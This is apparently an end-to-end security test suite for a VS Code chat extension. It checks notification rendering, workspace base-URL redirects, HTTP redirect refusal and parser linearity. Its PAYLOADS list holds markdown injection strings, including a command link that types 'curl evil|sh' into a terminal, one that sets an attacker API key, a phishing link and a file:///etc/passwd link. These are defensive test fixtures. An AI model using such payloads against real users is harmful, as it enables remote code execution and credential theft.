// Trust, against the packaged extension in a real VS Code: no provider text becomes a live link or
// icon in a notification, a workspace's settings cannot send prompts elsewhere without the user's
// yes, a provider's redirect is refused, and every parser of hostile text stays linear at sizes far
// beyond what a provider sends (figures: payload count, redirect attempts refused, largest input per
// parser with its time).
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { performance } from 'node:perf_hooks';
import type { Frame, Locator } from 'playwright-core';
import { linkTarget } from '../../src/chat/linkTarget';
import { conversationToMarkdown } from '../../src/chat/exportMarkdown';
import { cleanRewrite } from '../../src/editor/cleanRewrite';
import { classifyError } from '../../src/providers/errors';
import { errorFromBody } from '../../src/providers/errorShapes';
import { redactText, redactUrl } from '../../src/providers/redact';
import { SseReader } from '../../src/providers/sse';
import { LIMITS, parseWebviewMessage } from '../../src/shared/webviewProtocol';
import { inertText } from '../../src/ui/inertText';
import { highlightToHtml } from '../../src/webview/render/highlight';
import { composer } from '../e2e/chatPanel';
import { runCommand, screenshot } from '../e2e/workbench';
import { lmdeployErrorReply, openaiErrorReply, type Reply, sseReply, textChunks } from '../fixtures/fakeProvider';
import { answerCount, clearToasts, finishedAnswer, newChat } from './chatUi';
import { pollUntil } from './extensionHost';
import { figure } from './figures';
import { type Session, session } from './session';

/** Provider words that would be live markup in a notification, status bar item or quick pick. */
const PAYLOADS = [
  '[Fix your key](command:chorus.setApiKey?%5B%22openai%22%2C%22sk-attacker-000000000000%22%5D)',
  'Click [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) to continue',
  '[docs](https://evil.example/phish "Official docs")',
  '[open](file:///etc/passwd)',
  '$(alert) Your account is suspended: [verify](command:workbench.action.openSettings)',
  '[a](command:workbench.action.terminal.new) [b](command:workbench.action.reloadWindow)',
  '[spaced]  (command:workbench.action.terminal.new)',
  '[[nested]](command:chorus.clearApiKey?%5B%22openai%22%5D)',
];

/** Ways a provider's words reach an error: its message, its code, a flat LMDeploy body, a redirect's Location. */
const SHAPES: ReadonlyArray<{ readonly name: string; readonly reply: (payload: string) => Reply }> = [
  { name: 'error message', reply: (p) => openaiErrorReply(400, p) },
  { name: 'error code', reply: (p) => openaiErrorReply(400, 'Bad request', { code: p }) },
  { name: 'LMDeploy body', reply: (p) => lmdeployErrorReply(400, p) },
  { name: 'redirect Location', reply: (p) => ({ status: 302, headers: { location: p.replace(/[^\x20-\x7e]/g, '') }, body: [] }) },
];

/** The failure notification of a Test Connection, as the notification list shows it (opened for this). */
async function failureNotification(s: Session, shape: string): Promise<Locator> {
  const item = s.page.locator('.notifications-center .notification-list-item', { hasText: /HTTP \d{3}/ }).last();
  for (let attempt = 1; ; attempt++) {
    await runCommand(s.page, 'Notifications: Show Notifications');
    try {
      await item.waitFor({ timeout: 10_000 });
      return item;
    } catch (error) {
      if (attempt === 3) {
        const listed = await s.page.locator('.notifications-center .notification-list-item').allInnerTexts();
        throw new Error(`${shape}: no failure notification; listed: ${JSON.stringify(listed)}; ${String(error)}`);
      }
    }
  }
}

describe('trust: provider text, workspace redirects, linear parsers', () => {
  let s: Session;

  before(async () => {
    s = await session();
  });

  afterEach(async function () {
    // Replies a failed test did not use would answer the next suite's requests.
    s.fake.dropQueued();
    if (this.currentTest?.state === 'failed') await screenshot(s.page, `security-trust-failed-${this.currentTest.title.slice(0, 30).replace(/\W+/g, '-')}`);
  });

  it('no provider text becomes a link or an icon in a notification', async function () {
    this.timeout(400_000);
    let tried = 0;
    const rendered: string[] = [];
    await clearToasts(s.page);
    for (const shape of SHAPES) {
      for (const payload of PAYLOADS) {
        s.fake.enqueue(shape.reply(payload));
        const before = s.fake.requests.length;
        await runCommand(s.page, 'Chorus: Test Connection');
        await pollUntil(() => s.fake.requests.length, (n) => n > before, 20_000);
        assert.ok(s.fake.requests.length > before, `${shape.name}: the request reached the provider`);
        // Read from the notification list, where every notification is kept whether or not it showed
        // as a toast (in a long run, toasts were once not shown at all).
        const failure = await failureNotification(s, shape.name);
        const text = await failure.innerText();
        assert.match(text, /OpenAI-compatible/);
        rendered.push(...(await failure.locator('.notification-list-item-message a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? a.textContent ?? ''))).map((href) => `${shape.name}: ${href}`));
        const icons = await failure.locator('.notification-list-item-message .codicon').count();
        if (icons > 0) rendered.push(`${shape.name}: ${icons} icon(s) from ${payload}`);
        assert.ok(!text.includes('sk-attacker'), 'the payload\'s key is not shown');
        tried++;
        await runCommand(s.page, 'Notifications: Clear All Notifications');
      }
    }
    await s.page.keyboard.press('Escape');
    figure('Trust', `provider texts tried in notifications: ${tried} (${PAYLOADS.length} payloads × ${SHAPES.length} shapes); links or icons rendered: ${rendered.length}`);
    assert.deepEqual(rendered, []);
  });

  it('a workspace cannot send prompts elsewhere: asked once with the address, Cancel remembered; a provider\'s redirect is refused', async () => {
    const frame = await s.chat();
    const settingsDir = path.join(s.folder, '.vscode');
    const settingsFile = path.join(settingsDir, 'settings.json');
    const hits = s.canary.hits.length;
    const dialog = s.page.locator('.monaco-dialog-box');
    let refused = 0;
    try {
      fs.mkdirSync(settingsDir, { recursive: true });
      fs.writeFileSync(settingsFile, JSON.stringify({ 'chorus.provider': 'openai', 'chorus.openai.baseUrl': `${s.canary.origin}/v1` }, null, 2));
      await newChat(frame);
      // VS Code notices the file by itself; a prompt sent before it has is answered at home, so ask until the dialog comes.
      const asked = await pollUntil(
        async () => {
          s.fake.dropQueued();
          s.fake.enqueue(sseReply(textChunks('answered at home')));
          await sendAndWaitForDialogOrAnswer(frame, s, 'Which provider answers this?');
          return (await dialog.count()) > 0;
        },
        (shown) => shown,
        30_000,
      );
      assert.ok(asked, 'the destination dialog showed');
      const shown = await dialog.innerText();
      assert.ok(shown.includes(`${new URL(s.canary.origin).protocol}//127.0.0.1:${new URL(s.canary.origin).port}`), `the dialog shows scheme, host and port: ${shown}`);
      await dialog.locator('a.monaco-button, button', { hasText: 'Cancel' }).first().click();
      await dialog.waitFor({ state: 'detached' });
      refused++;
      const first = await finishedAnswer(frame, (await answerCount(frame)) - 1);
      assert.equal(first.status, 'done');

      await newChat(frame);
      s.fake.enqueue(sseReply(textChunks('still at home')));
      await composer(frame).fill('And this one?');
      await composer(frame).press('Enter');
      const second = await finishedAnswer(frame, 0);
      assert.equal(second.status, 'done');
      assert.equal(await dialog.count(), 0, 'the refusal is remembered: no dialog on every request');
      refused++;
    } finally {
      fs.rmSync(settingsFile, { force: true });
    }

    // The provider itself answers with a redirect to another host: not followed.
    for (const status of [301, 302, 307, 308]) {
      await newChat(frame);
      s.fake.enqueue({ status, headers: { location: `${s.canary.origin}/stolen` }, body: [] } satisfies Reply);
      await composer(frame).fill(`Redirect ${status}`);
      await composer(frame).press('Enter');
      const { status: answered } = await finishedAnswer(frame, 0);
      assert.equal(answered, 'error', `a ${status} ends as an error`);
      refused++;
    }
    await frame.waitForTimeout(500);
    const canaryHits = s.canary.hits.length - hits;
    figure('Trust', `redirect attempts refused: ${refused} (2 prompts under a workspace's provider and base URL, 4 HTTP redirects); requests that reached the other host: ${canaryHits}`);
    assert.equal(canaryHits, 0, 'nothing reached the workspace\'s or the redirect\'s host');
  });

  it('every parser of hostile text is linear: the largest input each takes, and its time', function () {
    this.timeout(60_000);
    const rows: string[] = [];
    const measure = <T>(name: string, input: string, run: (text: string) => T, check: (out: T) => boolean): void => {
      const started = performance.now();
      const out = run(input);
      const ms = performance.now() - started;
      rows.push(`${name}: ${(input.length / 1000).toLocaleString('en-US')} K chars in ${ms.toFixed(0)} ms`);
      assert.ok(check(out), `${name} gave the right answer`);
    };
    const big = 400_000;
    measure('redactText (token-shaped runs)', `Bearer ${'a'.repeat(big)} sk-${'b-'.repeat(big / 4)} eyJ${'c'.repeat(big / 4)}.`, (t) => redactText(t, ['sk-secret-000000']), (o) => !o.includes('a'.repeat(100)));
    measure('redactUrl (long query)', `https://h.example/v1?access_token=${'x'.repeat(big)}&api-key=${'y'.repeat(1000)}`, (t) => redactUrl(t), (o) => !o.includes('x'.repeat(100)));
    measure('errorFromBody (unclosed tags)', `<html>${'<'.repeat(big)}`, errorFromBody, (o) => o.message === undefined || o.message.length <= 4_000);
    measure('errorFromBody (JSON)', JSON.stringify({ error: { message: 'm'.repeat(big), code: 'x' } }), errorFromBody, (o) => (o.message?.length ?? 0) > 0);
    measure('classifyError', 'rate'.repeat(big / 4), (t) => classifyError({ message: t }), (o) => typeof o === 'string');
    measure('SSE reader (one endless line)', `data: ${'d'.repeat(big * 10)}`, (t) => new SseReader().feedText(t).length, (n) => n === 0);
    measure('inertText', `${'] ('.repeat(big / 3)}`, inertText, (o) => o.length < 1_000);
    measure('linkTarget', `https://user:${'p'.repeat(big)}@${'a.'.repeat(2000)}example/${'p'.repeat(big)}`, linkTarget, (o) => o === undefined || (o.hadUserinfo && !o.url.includes('@')));
    measure('webview message check', JSON.stringify({ type: 'send', text: 'x'.repeat(LIMITS.text), attachments: [] }), (t) => parseWebviewMessage(JSON.parse(t)), (o) => o !== undefined);
    const shape = { original: 'x', linePrefix: '', eol: '\n' as const, insertSpaces: true, tabSize: 2 };
    measure('rewrite cleaning (spaces then text)', `\`\`\`ts\n${' '.repeat(big / 4)}x\n${'\t'.repeat(big / 4)}y\n\`\`\``, (t) => cleanRewrite(t, shape), (o) => o.includes('x') && o.includes('y'));
    measure('highlighting (java, 40,000 $)', `${'$'.repeat(40_000)}`, (t) => highlightToHtml(t, 'java'), (o) => o.length === 40_000);
    measure('export escaping', `${'![a]('.repeat(big / 5)} <img src=https://e.example/x.png>`, (t) => conversationToMarkdown({ id: 'c', title: 't', createdAt: 0, updatedAt: 0, provider: 'p', model: 'm', turns: [{ id: 'u', role: 'user', text: t, createdAt: 0 }] }), (o) => !o.includes('<img'));
    for (const row of rows) figure('Parsers', row);
  });
});

/** Sends a prompt, then waits until either the destination dialog shows or its answer has finished. */
async function sendAndWaitForDialogOrAnswer(frame: Frame, s: Session, prompt: string): Promise<void> {
  const before = await answerCount(frame);
  await composer(frame).fill(prompt);
  await composer(frame).press('Enter');
  const dialog = s.page.locator('.monaco-dialog-box');
  await pollUntil(
    async () => (await dialog.count()) > 0 || (await frame.locator('article.turn.assistant').nth(before).getAttribute('data-status').catch(() => null)) === 'done',
    (ready) => ready,
    20_000,
  );
  if ((await dialog.count()) === 0) await newChat(frame);
}
